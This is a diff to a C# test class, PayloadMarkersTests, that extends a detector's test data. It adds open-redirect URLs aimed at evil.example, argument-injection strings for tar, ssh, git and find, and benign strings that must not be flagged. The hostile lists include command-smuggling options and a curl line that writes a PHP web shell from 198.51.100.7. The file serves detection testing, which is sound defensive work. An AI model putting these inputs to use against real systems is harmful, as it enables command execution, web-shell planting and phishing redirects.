@@ -41,7 +41,9 @@ public sealed class PayloadMarkersTests
     [
         "//evil.example/login", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "///evil.example",
         "https:/\\evil.example", "https:evil.example", "http:\\\\evil.example", "https://accounts.example.com@evil.example/",
-        "https://evil.example\\@accounts.example.com", "  //evil.example",
+        "https://evil.example\\@accounts.example.com", "  //evil.example", "//\r\nevil.example", "/\n/evil.example",
+        "\u3031evil.example", "https://evil.example#accounts.example.com", "https://evil.example?shop.example.net",
+        "http://evil.example#.example.com",
     ];
 
     [Theory]
@@ -57,6 +59,7 @@ public sealed class PayloadMarkersTests
     [
         "--to-command=id", "--use-compress-program=id", "--checkpoint-action=exec=sh x.sh", "--rsh=sh -c 'id>&2'",
         "-o /var/www/html/x.php http://198.51.100.7/s.txt", "--output=/var/www/html/shell.php", "-oproxycommand=id",
+        "--upload-pack=touch /tmp/pwned", "x -exec sh -c id {} ;",
     ];
 
     [Theory]
@@ -91,6 +94,8 @@ public sealed class PayloadMarkersTests
         "https://shop.example.net/products/123?ref=mail", "mailto:support@example.com", "http://example.com/?email=a@b.example",
         "/", "//", "@type", "{\"@type\":\"product\"}", "java.util.list", "python is fun", "ruby on rails",
         "c:/program files/app", "¯\\_(ツ)_/¯", ":-)", "x^2 + 3x - 4 = 0",
+        "https://example.com/#section", "https://example.com#top", "https://example.com?ref=mail.example.com",
+        "https://cdn.example.com/app.js?v1.2.3", "ーー", "\u30fc\u30fc", "find -exec", "-exec {}",
     ];
 
     [Theory]
